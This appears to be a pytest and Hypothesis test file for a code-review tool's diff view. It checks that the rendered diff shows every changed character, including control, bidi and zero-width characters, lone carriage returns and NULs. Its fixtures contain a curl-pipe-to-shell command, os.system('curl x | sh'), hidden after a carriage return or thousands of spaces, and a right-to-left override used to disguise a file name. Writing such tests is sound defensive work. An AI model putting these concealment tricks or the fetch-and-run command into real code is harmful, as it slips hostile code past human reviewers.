"""The reviewer sees every byte that changed: the diff table a reviewer reads has exactly the
lines of git's plain patch, each with all its characters, whatever the line endings, control
characters, invisible or bidi characters, line lengths or highlighter (issue 11, point 8).

Patches come from libgit2 (pygit2's Patch, as the hook makes them) over generated file
contents; the page's own macro renders them; an HTML parser reads the table back, taking each
marked escape for the character it stands for.
"""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser
from typing import Any

import pygit2
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pygit2.enums import DiffOption

from gate.server.web.diffview import MAX_HIGHLIGHT_CHARS, diff_views, is_hidden

# Characters that once split lines or hide text: lone CR and CRLF, NUL, form feed, vertical
# tab, escape, DEL, NEL (U+0085), the Unicode line and paragraph separators, bidi controls,
# zero-width characters, a byte-order mark, a Hangul filler, a variation selector, a tag
# character, a no-break space, and ordinary code around them.
ODD = [
    "\r",
    "\r\n",
    "\0",
    "\x0c",
    "\x0b",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u3164",
    "\ufe0f",
    "\U000e0041",
    "\xa0",
    "\t",
]
CODE = ["import os", "x = 1", "# comment", '"""doc', "'str'", "os.system('curl x | sh')", " ", "é"]
PATHS = ["x.py", "notes.txt", "run.sh", "main.c", "app.js", "README.md", "Makefile", "no-lexer"]

pieces = st.sampled_from(ODD + CODE)
lines = st.lists(pieces, max_size=8).map("".join)
contents = st.lists(lines, max_size=12).map("\n".join)


class TableReader(HTMLParser):
    """Rows of the file's diff table: (row class, sign cell, code cell with escapes undone),
    and every character of the code cells drawn as text (outside the escapes)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: list[tuple[str, str, str]] = []
        self.drawn: list[str] = []
        self._in_table = False
        self._row: list[Any] | None = None
        self._cell: str | None = None
        self._cell_text: list[str] = []
        self._escape_depth = 0
        self._depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attr = dict(attrs)
        if tag == "table" and "diff" in (attr.get("class") or ""):
            self._in_table = True
        elif not self._in_table:
            return
        elif tag == "tr":
            self._row = [attr.get("class") or ""]
        elif tag == "td":
            self._cell, self._cell_text = attr.get("class") or "", []
        elif tag == "span":
            if self._escape_depth:
                self._escape_depth += 1
            elif "hidden-char" in (attr.get("class") or "").split():
                self._cell_text.append(chr(int(attr["data-cp"] or "", 16)))
                self._escape_depth = 1

    def handle_endtag(self, tag: str) -> None:
        if not self._in_table:
            return
        if tag == "table":
            self._in_table = False
        elif tag == "span" and self._escape_depth:
            self._escape_depth -= 1
        elif tag == "td" and self._row is not None:
            self._row.append("".join(self._cell_text))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            kind, _old, _new, sign, code = self._row
            self.rows.append((kind, sign, code))
            self._row = None

    def handle_data(self, data: str) -> None:
        if self._cell is None or self._escape_depth:
            return
        self._cell_text.append(data)
        if self._cell == "code":
            self.drawn.append(data)


def render(app: Any, path: str, patch: str) -> str:
    entry = {"path": path, "status": "modified", "patch": patch}
    (view,) = diff_views([{"parent": None, "files": [entry]}], {})
    with app.app_context():
        module = app.jinja_env.get_template("review/_file_diff.html").module
        return str(module.file_diff(view.files[0]))


def plain_hunk_lines(patch: str) -> list[str]:
    """The patch's lines as git writes them (split at LF only), from the first hunk on."""
    raw = patch.split("\n")
    if raw[-1] == "":
        raw.pop()
    start = next(i for i, line in enumerate(raw) if line.startswith("@@"))
    return raw[start:]


def assert_table_is_patch(app: Any, path: str, patch: str) -> None:
    reader = TableReader()
    reader.feed(render(app, path, patch))
    expected = plain_hunk_lines(patch)
    assert len(reader.rows) == len(expected)
    for (kind, sign, code), line in zip(reader.rows, expected, strict=True):
        if kind == "hunk":  # hunk headers and "\ No newline at end of file"
            assert code == line
        else:
            assert {"add": "+", "del": "-", "ctx": " "}[kind] == line[0]
            assert sign + code == line
    hidden = [char for text in reader.drawn for char in text if is_hidden(char)]
    assert not hidden, f"drawn raw: {[unicodedata.name(c, hex(ord(c))) for c in hidden]}"


def git_patch(old: str, new: str, path: str, force_text: bool = True) -> str:
    """The file's patch as the hook sends it: libgit2's text, decoded as gate.git.diffs does."""
    flag = DiffOption.FORCE_TEXT if force_text else DiffOption.NORMAL
    # The patch reads the buffers when its text is made: they must outlive it.
    old_bytes, new_bytes = old.encode(), new.encode()
    patch = pygit2.Patch.create_from(old_bytes, new_bytes, path, path, flag=flag)
    text = patch.data.decode("utf-8", errors="replace")
    del patch
    return text


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(old=contents, new=contents, path=st.sampled_from(PATHS))
def test_the_table_has_exactly_the_lines_of_the_plain_patch(
    app: Any, old: str, new: str, path: str
) -> None:
    patch = git_patch(old, new, path)
    if "@@" not in patch:
        return  # no change in the text
    assert_table_is_patch(app, path, patch)


def test_the_issue_attack_keeps_the_last_line(app: Any) -> None:
    new = "import os\r# looks harmless\nx = 1\nos.system('curl x | sh')\n"
    patch = git_patch("", new, "train/loop.py", force_text=False)
    assert_table_is_patch(app, "train/loop.py", patch)
    html = render(app, "train/loop.py", patch)
    assert "curl x | sh" in html
    assert "3 hidden character" not in html and "1 hidden character," in html


@pytest.mark.parametrize("path", ["big.py", "big.txt"])
def test_very_long_lines_and_text_past_the_highlight_limit(app: Any, path: str) -> None:
    long_line = "x = 1" + " " * 5000 + "; os.system('curl x | sh')"
    over_limit = "\n".join(["a = 'b'\rc"] * (MAX_HIGHLIGHT_CHARS // 8))
    for new in (long_line + "\n" + "\u2028\n", over_limit + "\n" + long_line + "\n"):
        assert_table_is_patch(app, path, git_patch("", new, path, force_text=False))


def test_a_nul_past_git_binary_probe_is_text_and_shown(app: Any) -> None:
    # git (and libgit2) call a file binary when its first 8000 bytes hold a NUL; later ones
    # stay in the text patch.
    new = "# pad\n" * 2000 + "ok = 1\0os.system('x')\n"
    patch = git_patch("", new, "late.py", force_text=False)
    assert "\0" in patch
    assert_table_is_patch(app, "late.py", patch)


def test_hidden_characters_in_paths_are_marked() -> None:
    entry = {"path": "train/\u202eyp.sol", "status": "added", "patch": ""}
    (view,) = diff_views([{"parent": None, "files": [entry]}], {})
    assert "\u202e" not in view.files[0].path_html
    assert 'data-cp="202e"' in view.files[0].path_html


def test_tab_and_space_are_drawn_as_themselves() -> None:
    assert not is_hidden("\t") and not is_hidden(" ") and not is_hidden("é")
    assert all(is_hidden(char) for char in ODD if char not in ("\t", "\r\n"))
